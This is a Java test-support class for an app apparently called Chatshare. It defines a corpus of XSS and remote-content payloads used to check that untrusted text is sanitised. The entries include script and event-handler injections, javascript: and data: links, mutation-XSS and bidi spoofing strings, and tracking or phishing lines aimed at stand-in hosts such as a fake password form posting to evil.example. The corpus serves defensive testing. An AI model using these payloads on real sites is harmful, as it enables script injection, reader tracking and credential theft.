package com.chatshare;

import java.util.List;

/**
 * Hostile text for every place Chatshare shows untrusted content: scripts, event handlers,
 * dangerous link schemes, and anything that would make a reader's browser load from another
 * origin (remote images in Markdown and HTML, CSS, SVG, media, forms, prefetch), plus bidi and
 * zero-width tricks. Used by the public page's MockMvc test and the browser journey that opens
 * every view.
 */
public final class XssCorpus {

    public static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "![x](javascript:alert(1))",
            "![x\" onerror=\"alert(1)](https://example.com/x.png)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<body onload=alert(1)>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<object data=\"data:text/html,<script>alert(1)</script>\">",
            "<embed src=\"javascript:alert(1)\">",
            "<form action=\"javascript:alert(1)\"><input type=submit>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"javascript:alert(1)//\">",
            "[x](vbscript:msgbox(1))",
            "<details open ontoggle=alert(1)>",
            "```html\n<script>alert(1)</script>\n```",
            "[a](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")",
            "\u202Egnp.exe\u202C harmless.png",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "[x](&#106;avascript:alert(1))",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "\"><script>alert(1)</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<javascript:alert(1)>",
            "[x](  javascript:alert(1))",
            "<a href=\"data:image/svg+xml,<svg onload=alert(1)>\">x</a>",
            // Remote content that would tell a sharer when and where a recipient reads.
            "<img src=\"https://tracker.example/p.png\">",
            "![x](https://tracker.example/?q=secret)",
            "<img srcset=\"https://tracker.example/a.png 1x\">",
            "<picture><source srcset=\"https://tracker.example/b.png\"><img></picture>",
            "<video poster=\"https://tracker.example/poster.png\"></video>",
            "<audio src=\"https://tracker.example/a.mp3\" autoplay></audio>",
            "<style>@import url(https://evil.example/x.css); body{background:url(https://tracker.example/bg)}</style>",
            "<div style=\"background-image:url(https://tracker.example/bg.png)\">x</div>",
            "<svg><image href=\"https://tracker.example/s.png\"/></svg>",
            "<input type=\"image\" src=\"https://tracker.example/i.png\">",
            "<table background=\"https://tracker.example/t.png\"><tr><td>x</td></tr></table>",
            "<link rel=\"prefetch\" href=\"https://tracker.example/prefetch\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\"><button>Sign in</button></form>",
            "<object data=\"https://evil.example/x.swf\"></object>",
            "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "\u2066\u2067alice\u2069\u2069 and zero\u200Bwidth\u200Dtext",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>");

    private XssCorpus() {
    }
}
